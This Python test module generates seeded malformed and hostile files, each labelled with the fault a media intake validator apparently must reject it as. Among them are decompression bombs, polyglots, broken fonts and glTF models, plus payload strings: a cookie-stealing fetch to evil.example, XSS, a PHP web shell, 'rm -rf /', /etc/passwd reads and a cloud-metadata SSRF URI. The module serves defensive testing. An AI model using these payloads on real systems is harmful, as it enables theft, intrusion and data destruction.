"""Files that nobody should send: a seeded stream of them, each with what it must be refused as."""

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from hashlib import sha256
from typing import Any

from rendering.intake.faults import Fault
from tests.intake.good_files import contained, drawn, encoded, font, good_files, inlined, noise, triangle

MIME = {
    "png": "image/png",
    "jpg": "image/jpeg",
    "webp": "image/webp",
    "avif": "image/avif",
    "gif": "image/gif",
    "mp4": "video/mp4",
    "mov": "video/quicktime",
    "webm": "video/webm",
    "mkv": "video/x-matroska",
    "mp3": "audio/mpeg",
    "wav": "audio/wav",
    "ogg": "audio/ogg",
    "flac": "audio/flac",
    "m4a": "audio/mp4",
    "ttf": "font/ttf",
    "glb": "model/gltf-binary",
    "gltf": "model/gltf+json",
}
PICTURES = ("png", "jpg", "webp", "gif", "avif")
FILMS = ("mp4", "mov", "webm", "mkv")
SOUNDS = ("mp3", "wav", "ogg", "flac", "m4a")
UNKNOWN = frozenset({Fault.TYPE_UNSUPPORTED})
BROKEN = frozenset({Fault.UNREADABLE})
BROKEN_OR_UNKNOWN = BROKEN | UNKNOWN
HOSTILE = frozenset({Fault.UNSAFE})
LARGE = frozenset({Fault.DIMENSIONS})
LONG = frozenset({Fault.DURATION})


@dataclass(frozen=True)
class Malformed:
    """A file.

    Args:
        kind: which family it is of, for people.
        extension: the type that it is announced as.
        faults: what it may be refused as.
    """

    kind: str
    extension: str
    data: bytes
    faults: frozenset[Fault]

    @property
    def mime_type(self) -> str:
        return MIME[self.extension]


Make = Callable[[random.Random], Malformed]


def cut_picture(rng: random.Random) -> Malformed:
    extension = rng.choice(PICTURES)
    data = good_files()[extension]
    end = rng.randrange(len(data) // 20 + 60, len(data) - 8)
    return Malformed("cut picture", extension, data[:end], BROKEN)


def cut_media(rng: random.Random) -> Malformed:
    extension = rng.choice(("mp4", "mov", "wav", "flac", "m4a", "mkv", "webm"))
    data = good_files()[extension]
    end = rng.randrange(600, len(data) // 3)
    return Malformed("cut media", extension, data[:end], BROKEN)


def cut_font_or_model(rng: random.Random) -> Malformed:
    extension = rng.choice(("ttf", "glb", "gltf"))
    data = good_files()[extension]
    end = rng.randrange(100, len(data) - 40)
    return Malformed("cut font or model", extension, data[:end], BROKEN_OR_UNKNOWN)


def other_type(rng: random.Random) -> Malformed:
    group = rng.choice((PICTURES[:3], FILMS, SOUNDS))
    announced, real = rng.sample(group, 2)
    data = good_files()[real]
    return Malformed("other type", announced, _varied(data, real, rng), frozenset({Fault.TYPE_DIFFERS}))


def _varied(data: bytes, extension: str, rng: random.Random) -> bytes:
    """The same file with a byte that nobody looks at before the types are compared."""
    del extension
    at = rng.randrange(len(data) // 2, len(data))
    return data[:at] + rng.randbytes(1) + data[at + 1 :]


def flipped_png(rng: random.Random) -> Malformed:
    data = bytearray(good_files()["png"])
    at = rng.randrange(60, len(data) - 20)
    data[at] ^= rng.randrange(1, 256)
    return Malformed("flipped PNG", "png", bytes(data), BROKEN)


def _png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def pixel_bomb(rng: random.Random) -> Malformed:
    side = rng.randrange(16_400, 60_000)
    header = struct.pack(">IIBBBBB", side, side, rng.choice((1, 8)), 0, 0, 0, 0)
    body = zlib.compress(bytes(side // 8 + 1) * min(side, 200), 9)
    data = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", body)
    return Malformed("pixel bomb", "png", data + _png_chunk(b"IEND", b""), LARGE)


def lying_sides(rng: random.Random) -> Malformed:
    """A small picture that says that it is huge."""
    side = rng.randrange(20_000, 65_000)
    if rng.random() < 0.5:
        data = bytearray(good_files()["jpg"])
        at = data.index(b"\xff\xc0") + 5
        data[at : at + 4] = struct.pack(">HH", side, side)
        return Malformed("lying sides", "jpg", bytes(data), LARGE)
    data = bytearray(good_files()["gif"])
    data[6:10] = struct.pack("<HH", side, side)
    return Malformed("lying sides", "gif", bytes(data), LARGE)


def tiny_picture(rng: random.Random) -> Malformed:
    extension, kind = rng.choice((("png", "PNG"), ("jpg", "JPEG"), ("webp", "WEBP")))
    return Malformed(
        "tiny picture", extension, drawn(kind, (rng.randrange(1, 16), rng.randrange(1, 80)), rng), LARGE
    )


def moving_picture(rng: random.Random) -> Malformed:
    extension, kind = rng.choice((("gif", "GIF"), ("webp", "WEBP"), ("png", "PNG")))
    frames = [noise((20, 20), rng) for _ in range(3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, kind, save_all=True, append_images=frames[1:])
    return Malformed("moving picture", extension, buffer.getvalue(), UNKNOWN)


def drawing(rng: random.Random) -> Malformed:
    script = rng.choice(
        (
            "<script>fetch('https://evil.example/'+document.cookie)</script>",
            "<rect onload='alert(1)' width='9' height='9'/>",
            "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
            "<image href='file:///etc/passwd'/>",
        )
    )
    head = rng.choice(("", '<?xml version="1.0"?>\n', "<!-- PNG -->", "\n" * rng.randrange(1, 30)))
    text = f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="{rng.randrange(1, 999)}">{script}</svg>'
    return Malformed("SVG with script", rng.choice(PICTURES), text.encode(), UNKNOWN)


def foreign(rng: random.Random) -> Malformed:
    """What has no place here at all."""
    noise = rng.randbytes(rng.randrange(1, 400))
    heads = (
        b"<!doctype html><script>alert(1)</script>",
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        b"MZ\x90\x00\x03",
        b"\x7fELF\x02\x01\x01",
        b"#!/bin/sh\nrm -rf /\n",
        b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        b"ffconcat version 1.0\nfile /etc/passwd\n",
        b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n",
        b"<?php system($_GET['c']); ?>",
        b"Rar!\x1a\x07\x01\x00",
        b"\x1f\x8b\x08\x00",
        b"",
    )
    return Malformed("foreign", rng.choice(sorted(MIME)), rng.choice(heads) + noise, BROKEN_OR_UNKNOWN)


def archive(rng: random.Random) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(
            zipfile.ZipInfo(f"{rng.randrange(10**9)}.txt"),
            bytes(rng.randrange(10, 500_000)),
            zipfile.ZIP_DEFLATED,
        )
    return buffer.getvalue()


def zip_bomb(rng: random.Random) -> Malformed:
    return Malformed("zip bomb", rng.choice(sorted(MIME)), archive(rng), UNKNOWN)


def two_in_one(rng: random.Random) -> Malformed:
    """A good file with a second one behind it."""
    extension = rng.choice((*PICTURES, "mp4", "wav", "mov", "m4a", "mp3", "flac"))
    second = archive(rng)
    if extension not in {"mp3", "flac"} and rng.random() < 0.5:
        second = rng.choice((b"<html><script>1</script>", b"<?php 1 ?>", b"%PDF-1.4", b"MZ")) + rng.randbytes(
            40
        )
    return Malformed("two in one", extension, good_files()[extension] + second, HOSTILE | BROKEN)


def page_in_head(rng: random.Random) -> Malformed:
    """A picture whose first bytes read like a page as well."""
    words = rng.choice((b"<script>alert(1)</script>", b"<html><body onload=alert(1)>", b"%PDF-1.4 "))
    comment = words + rng.randbytes(rng.randrange(4, 90)).replace(b"\xff", b"x")
    data = good_files()["jpg"]
    extra = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return Malformed("page in head", "jpg", data[:2] + extra + data[2:], HOSTILE)


def noise_with_magic(rng: random.Random) -> Malformed:
    magic = {
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "jpg": b"\xff\xd8\xff\xe0",
        "webp": b"RIFF\x00\x10\x00\x00WEBPVP8 ",
        "gif": b"GIF89a",
        "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf",
        "mp4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",
        "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm",
        "mp3": b"ID3\x04\x00\x00\x00\x00\x00\x00",
        "wav": b"RIFF\x00\x00\x00\x00WAVEfmt ",
        "ogg": b"OggS\x00\x02",
        "flac": b"fLaC\x00\x00\x00\x22",
        "ttf": b"\x00\x01\x00\x00\x00\x0c",
        "glb": b"glTF\x02\x00\x00\x00",
    }
    extension = rng.choice(sorted(magic))
    data = magic[extension] + rng.randbytes(rng.randrange(50, 3_000))
    return Malformed("noise with magic", extension, data, BROKEN_OR_UNKNOWN | LARGE | HOSTILE | LONG)


@cache
def _packed_zeros() -> bytes:
    return zlib.compress(bytes(80 * 1024**2), 9)


def text_bomb(rng: random.Random) -> Malformed:
    """A small picture with a word that unpacks to very many."""
    packed = _packed_zeros()
    data = good_files()["png"]
    end = data.rindex(b"IEND") - 4
    word = f"Comment {rng.randrange(10**9)}".encode()
    chunk = _png_chunk(b"zTXt", word + b"\0\0" + packed)
    return Malformed("text bomb", "png", data[:33] + chunk + data[33:end] + data[end:], BROKEN)


def slow_sound(rng: random.Random) -> Malformed:
    """A sound of a few values a second: hours in a few bytes."""
    rate = rng.randrange(1, 8)
    samples = bytes(rng.randrange(40_000, 90_000))
    head = struct.pack("<4sIHHIIHH4sI", b"fmt ", 16, 1, 1, rate, rate, 1, 8, b"data", len(samples))
    body = b"WAVE" + head + samples
    data = b"RIFF" + struct.pack("<I", len(body)) + body
    return Malformed("slow sound", "wav", data, LONG | BROKEN)


def long_film(rng: random.Random) -> Malformed:
    """A film whose clock is wound back: seconds become years."""
    data = bytearray(good_files()[rng.choice(("mp4", "mov"))])
    extension = "mov" if data[8:12] == b"qt  " else "mp4"
    for name in (b"mvhd", b"mdhd"):
        at = -1
        while (at := data.find(name, at + 1)) >= 0:
            data[at + 16 : at + 20] = struct.pack(">I", rng.randrange(1, 4))
    return Malformed("long film", extension, bytes(data), LONG | BROKEN)


@cache
def _odd_films() -> Sequence[tuple[str, bytes, frozenset[Fault]]]:
    many = ["-f", "lavfi", "-i", "color=s=16x16:r=1:d=800"]
    tiny = ["-f", "lavfi", "-i", "testsrc=s=8x8:r=5:d=1"]
    huge = ["-f", "lavfi", "-i", "color=s=4800x64:r=1:d=2"]
    quick = ["-f", "lavfi", "-i", "color=s=32x32:r=480:d=1"]
    sound = ["-f", "lavfi", "-i", "sine=d=1"]
    return (
        ("mp4", encoded("a.mp4", many), LONG),
        ("mkv", encoded("a.mkv", [*tiny, "-c:v", "mjpeg", "-pix_fmt", "yuvj420p"]), LARGE),
        ("mp4", encoded("a.mp4", [*huge, "-pix_fmt", "yuv420p"]), LARGE),
        ("mkv", encoded("a.mkv", [*quick, "-c:v", "mjpeg", "-pix_fmt", "yuvj420p"]), LARGE),
        ("mp4", encoded("a.mp4", [*sound, "-brand", "isom"]), BROKEN | UNKNOWN | {Fault.TYPE_DIFFERS}),
        ("mkv", encoded("a.mkv", sound), BROKEN),
    )


def odd_film(rng: random.Random) -> Malformed:
    extension, data, faults = rng.choice(_odd_films())
    tail = b"\xec" + bytes([0x80 + 8]) + rng.randbytes(8)  # Matroska's filler
    if extension == "mp4":
        tail = struct.pack(">I4s", 16, b"free") + rng.randbytes(8)
    return Malformed("odd film", extension, data + tail, faults)


def broken_font(rng: random.Random) -> Malformed:
    data = bytearray(font())
    tables = struct.unpack_from(">H", data, 4)[0]
    records = [12 + 16 * number for number in range(tables)]
    # A sum of the whole stands in `head` and is compared by nobody.
    at = rng.choice([each for each in records if data[each : each + 4] != b"head"])
    match rng.randrange(4):
        case 0:  # a table that lies beyond the end
            struct.pack_into(">I", data, at + 8, rng.randrange(len(data), 2**32))
        case 1:  # a table that is longer than the file
            struct.pack_into(">I", data, at + 12, rng.randrange(len(data) + 4, 2**32))
        case 2:  # more tables than there are
            struct.pack_into(">H", data, 4, rng.randrange(tables + 200, 2**16))
        case _:  # a table that is what its sum does not say
            start, length = struct.unpack_from(">II", data, at + 8)
            data[start + rng.randrange(length)] ^= rng.randrange(1, 256)
    return Malformed("broken font", "ttf", bytes(data), BROKEN | LARGE | {Fault.TOO_COSTLY})


def lying_container(rng: random.Random) -> Malformed:
    data = bytearray(good_files()["glb"])
    at, faults = rng.choice(((8, BROKEN), (12, BROKEN), (4, UNKNOWN), (16, HOSTILE)))
    old = struct.unpack_from("<I", data, at)[0]
    new = old
    while new == old:
        new = rng.randrange(2**32)
    struct.pack_into("<I", data, at, new)
    return Malformed("lying container", "glb", bytes(data), faults)


def _set(document: dict[str, Any], path: Sequence[str | int], value: Any) -> None:
    inner: Any = document
    for each in path[:-1]:
        inner = inner[each]
    inner[path[-1]] = value


def broken_model(rng: random.Random) -> Malformed:
    """A model of which one value contradicts another, or leads out of it."""
    document, data = triangle()
    far = rng.randrange(100, 2**31)
    changes: tuple[tuple[Sequence[str | int], Any, frozenset[Fault]], ...] = (
        (("bufferViews", 0, "byteOffset"), far, BROKEN),
        (("bufferViews", 0, "byteLength"), far, BROKEN),
        (("bufferViews", 0, "buffer"), far, BROKEN),
        (("accessors", 0, "count"), far, BROKEN),
        (("accessors", 0, "byteOffset"), far, BROKEN),
        (("accessors", 0, "count"), -far, BROKEN),
        (("accessors", 0, "componentType"), far, BROKEN),
        (("accessors", 0, "type"), f"VEC{far}", BROKEN),
        (("accessors", 1, "bufferView"), far, BROKEN),
        (("meshes", 0, "primitives", 0, "indices"), far, BROKEN),
        (("meshes", 0, "primitives", 0, "attributes"), {"COLOR_0": 0, "x": far}, BROKEN),
        (("meshes", 0, "primitives", 0, "mode"), far, BROKEN),
        (("nodes", 0, "mesh"), far, BROKEN),
        (("nodes", 0, "children"), [0, far], BROKEN),
        (("nodes", 1, "children"), [0], BROKEN),
        (("nodes", 0, "matrix"), [1e999] * 16, BROKEN),
        (("scenes", 0, "nodes"), [far], BROKEN),
        (("buffers", 0, "byteLength"), far, BROKEN),
        (("buffers", 0, "uri"), f"https://evil.example/{far}.bin", HOSTILE),
        (("buffers", 0, "uri"), f"../../etc/{far}", HOSTILE),
        (("buffers", 0, "uri"), "file:///etc/passwd", HOSTILE),
        (("images",), [{"uri": f"http://169.254.169.254/{far}"}], HOSTILE),
        (("images",), [{"bufferView": far}], BROKEN),
        (("images",), [{"bufferView": 0, "mimeType": "image/png"}], BROKEN),
        (("meshes",), [], LARGE),
        (("asset", "version"), f"{far}.0", UNKNOWN),
        (("extensionsRequired",), [f"KHR_draco_mesh_compression_{far}"], UNKNOWN),
        (("extras",), _nested(rng.randrange(5_000, 20_000)), BROKEN | {Fault.TOO_COSTLY}),
    )
    path, value, faults = rng.choice(changes)
    if path == ("extras",):
        text = json.dumps(document)[:-1].encode() + b', "extras": ' + value + b"}"
        return Malformed("broken model", "glb", contained(text, data), faults)
    _set(document, path, value)
    document["extras"] = rng.randrange(10**9)
    return Malformed("broken model", "glb", contained(document, data), faults)


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def model_with_picture_bomb(rng: random.Random) -> Malformed:
    bomb = pixel_bomb(rng).data
    document, data = triangle(bomb)
    return Malformed("model with a picture bomb", "glb", contained(document, data), LARGE | BROKEN)


def model_elsewhere(rng: random.Random) -> Malformed:
    document, data = triangle()
    text = json.loads(inlined(document, data))
    text["buffers"][0]["uri"] = rng.choice(("a.bin", "//evil.example/a", "data:text/html,<script>"))
    text["extras"] = rng.randrange(10**9)
    return Malformed("model elsewhere", "gltf", json.dumps(text).encode(), HOSTILE)


FAMILIES: tuple[Make, ...] = (
    cut_picture,
    cut_media,
    cut_font_or_model,
    other_type,
    flipped_png,
    pixel_bomb,
    lying_sides,
    tiny_picture,
    moving_picture,
    drawing,
    foreign,
    zip_bomb,
    two_in_one,
    page_in_head,
    noise_with_magic,
    text_bomb,
    slow_sound,
    long_film,
    odd_film,
    broken_font,
    lying_container,
    broken_model,
    model_with_picture_bomb,
    model_elsewhere,
)


def malformed(count: int, *, seed: int) -> Iterator[Malformed]:
    """As many different files, the same ones for the same seed, from each family in turn."""
    rng = random.Random(seed)
    seen: set[str] = set()
    number = 0
    while len(seen) < count:
        made = FAMILIES[number % len(FAMILIES)](rng)
        number += 1
        name = sha256(made.data).hexdigest()
        if name not in seen and made.data:
            seen.add(name)
            yield made
